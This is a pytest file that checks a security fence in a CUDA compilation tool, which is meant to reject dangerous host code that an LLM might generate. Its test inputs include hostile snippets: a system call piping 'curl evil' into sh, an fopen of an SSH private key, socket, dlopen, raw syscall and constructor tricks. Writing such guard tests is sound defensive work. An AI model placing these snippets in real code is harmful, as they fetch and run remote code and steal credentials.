"""Hostile candidates: host code an LLM might write that must never run. Each is refused before
anything is loaded (no library is linked), with the reason; the user's own file is trusted.
Compiles with the nvcc wheel (no GPU needed)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from kernel_lsp import fence
from kernel_lsp.compile import CompileOptions, cuda_include_dirs, find_toolchain
from kernel_lsp.compile.shared_lib import compile_library
from kernel_lsp.fence import check_candidate_host_code, check_object, check_source

pytestmark = pytest.mark.skipif(find_toolchain().problem is not None, reason="nvcc or g++ missing")

ORIGINAL = r"""#include <cuda_runtime.h>
#include "helpers.h"
__global__ void scale_kernel(const float* x, float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) y[i] = 2.0f * x[i];
}
extern "C" void scale(const float* x, float* y, int n) {
    scale_kernel<<<(n + 255) / 256, 256>>>(x, y, n);
}
"""


def candidate(host_body: str, includes: str = "", top: str = "") -> str:
    return (
        "#include <cuda_runtime.h>\n"
        + includes
        + top
        + "__global__ void scale_kernel(const float* x, float* y, int n) {\n"
        "    int i = blockIdx.x * blockDim.x + threadIdx.x;\n"
        "    if (i < n) y[i] = 2.0f * x[i];\n"
        "}\n"
        'extern "C" void scale(const float* x, float* y, int n) {\n'
        + host_body
        + "\n    scale_kernel<<<(n + 255) / 256, 256>>>(x, y, n);\n}\n"
    )


@pytest.fixture(scope="module")
def options() -> CompileOptions:
    return CompileOptions(arch="sm_90", include_dirs=cuda_include_dirs())


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "helpers.h").write_text("#pragma once\ninline int helper(int v) { return v; }\n")
    return tmp_path


def build(folder: Path, options: CompileOptions, source: str, original: str | None = ORIGINAL):
    return compile_library(
        source, str(folder / "candidate.cu"), options, candidate_of=original, use_cache=False, fence=fence
    )


HOSTILE = {
    "system": (
        candidate('    system("curl evil | sh");', "#include <cstdlib>\n"),
        "calls `system`, which runs another program",
    ),
    "fopen": (
        candidate('    FILE* f = fopen("/home/user/.ssh/id_rsa", "r");', "#include <cstdio>\n"),
        "calls `fopen`, which opens or changes files",
    ),
    "socket": (
        candidate("    int s = socket(2, 1, 0);", "#include <sys/socket.h>\n"),
        "calls `socket`, which uses the network",
    ),
    "dlopen": (
        candidate('    void* h = dlopen("libevil.so", 2);', "#include <dlfcn.h>\n"),
        "calls `dlopen`, which loads code at run time",
    ),
    "mmap of a file": (
        candidate("    void* p = mmap(0, 4096, 1, 1, 3, 0);", "#include <sys/mman.h>\n"),
        "calls `mmap`, which maps memory or files itself",
    ),
    "syscall": (
        candidate("    syscall(59, 0, 0, 0);", "#include <unistd.h>\n"),
        "calls `syscall`, which makes raw system calls",
    ),
    "host asm": (candidate('    asm volatile("syscall");'), "inline assembly in host code"),
    "constructor attribute": (
        candidate("", top="__attribute__((constructor)) static void evil() {}\n"),
        "attribute `constructor`",
    ),
    "include outside the allowlist": (candidate("", "#include <fstream>\n"), "#include <fstream> is outside"),
    "a quoted header the original lacks": (
        candidate("", '#include "secrets.h"\n'),
        "not included by the original file",
    ),
    "a reserved macro": (candidate("", top="#define __sti____cudaRegisterAll evil\n"), "a reserved name"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_is_refused_before_nvcc_reads_it(folder, options, name):
    source, reason = HOSTILE[name]
    result = build(folder, options, source)
    assert not result.ok and result.library is None  # never linked, so never loaded
    assert not result.trusted
    assert any(reason in f.message for f in result.fence), [f.message for f in result.fence]
    # Each finding becomes an error diagnostic at its line.
    assert all(d.code.startswith("fence-") for d in result.diagnostics)
    assert all(d.line >= 1 for d in result.diagnostics)


def test_the_same_text_from_the_user_is_trusted_and_linked(folder, options):
    source, _ = HOSTILE["system"]
    result = compile_library(source, str(folder / "mine.cu"), options, use_cache=False)
    assert result.ok and result.trusted and result.library and result.fence == []


def test_a_global_object_with_a_constructor_is_refused_by_the_object_check(folder, options):
    source = candidate("", "#include <vector>\n", top="static std::vector<int> table(10);\n")
    assert check_source(source, ORIGINAL) == []  # nothing in the text says it
    result = build(folder, options, source)
    assert result.library is None
    assert [f.kind for f in result.fence] == ["constructor"]
    assert "static initializer" in result.fence[0].message


def test_an_import_the_text_hides_is_refused_by_the_object_check(folder, options):
    # The text checks know a list of names; `tmpfile` is not on it, but it is not on the
    # object's allowlist either.
    source = candidate("    FILE* f = tmpfile();\n    (void)f;", "#include <cstdio>\n")
    assert check_source(source, ORIGINAL) == []
    result = build(folder, options, source)
    assert result.library is None
    assert any(f.kind == "symbol" and f.symbol == "tmpfile" for f in result.fence), result.fence


def test_a_call_through_a_pointer_is_refused_by_text_and_object(tmp_path, options):
    # No `fopen(` in the text: the call goes through a pointer, so the text sees its address.
    source = candidate('    auto open_file = &fopen;\n    open_file("/tmp/x", "w");', "#include <cstdio>\n")
    assert [(f.kind, f.symbol) for f in check_source(source, ORIGINAL)] == [("address", "fopen")]
    findings = check_object(str(compile_object(tmp_path, source)))
    assert {(f.kind, f.symbol) for f in findings} >= {("symbol", "fopen"), ("address", "fopen")}


def compile_object(folder: Path, source: str, name: str = "raw") -> Path:
    """The host object of `source` as the library build makes it (nvcc -c -fPIC), past the fence."""
    src, obj = folder / f"{name}.cu", folder / f"{name}.o"
    src.write_text(source)
    subprocess.run(
        [find_toolchain().nvcc, "-c", "-Xcompiler", "-fPIC", "-arch=sm_90", "-o", str(obj), str(src)],
        check=True,
        capture_output=True,
    )
    return obj


def test_a_raw_system_call_instruction_is_found_in_the_object(tmp_path, options):
    source = candidate('    asm volatile("syscall");')
    findings = check_object(str(compile_object(tmp_path, source)))
    assert any(f.kind == "instruction" and "syscall" in f.message and "scale" in f.message for f in findings)


def test_ordinary_launchers_pass_the_fence(folder, options):
    """Temporaries, copies, events, streams, occupancy, a cooperative launch, std::vector,
    printf, device-side PTX, the user's own header: all allowed."""
    source = r"""#include <cuda_runtime.h>
#include <cooperative_groups.h>
#include <cstdio>
#include <vector>
#include "helpers.h"
namespace cg = cooperative_groups;
__global__ void scale_kernel(const float* x, float* y, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    unsigned lane;
    asm volatile("mov.u32 %0, %%laneid;" : "=r"(lane));
    if (i < n) y[i] = 2.0f * x[i] + 0.0f * lane;
    cg::this_grid().sync();
}
extern "C" int scale(const float* x, float* y, int n) {
    float* tmp = nullptr;
    cudaMalloc(&tmp, n * sizeof(float));
    cudaMemcpy(tmp, x, n * sizeof(float), cudaMemcpyDeviceToDevice);
    std::vector<float> host(helper(4));
    cudaStream_t s;
    cudaStreamCreateWithFlags(&s, cudaStreamNonBlocking);
    cudaEvent_t e;
    cudaEventCreate(&e);
    int blocks = 0;
    cudaOccupancyMaxActiveBlocksPerMultiprocessor(&blocks, scale_kernel, 256, 0);
    void* args[] = {(void*)&tmp, (void*)&y, (void*)&n};
    cudaLaunchCooperativeKernel((void*)scale_kernel, dim3(blocks), dim3(256), args, 0, s);
    cudaEventRecord(e, s);
    cudaEventSynchronize(e);
    cudaError_t err = cudaGetLastError();
    if (err != cudaSuccess) { fprintf(stderr, "%s\n", cudaGetErrorString(err)); return 1; }
    cudaEventDestroy(e);
    cudaStreamDestroy(s);
    cudaFree(tmp);
    printf("%zu\n", host.size());
    return 0;
}
"""
    result = build(folder, options, source)
    assert result.fence == [], [f.message for f in result.fence]
    assert result.ok and result.library and not result.trusted


def test_check_candidate_host_code_is_the_optimizer_entry_point(tmp_path):
    findings = check_candidate_host_code(HOSTILE["fopen"][0], ORIGINAL, None)
    assert [f.kind for f in findings] == ["call"] and findings[0].line == 8  # the fopen line


def test_a_candidate_is_never_built_without_the_fence(folder, options):
    result = compile_library(HOSTILE["system"][0], str(folder / "c.cu"), options, candidate_of=ORIGINAL)
    assert result.library is None and not result.ok and "fence" in result.fence[0].message
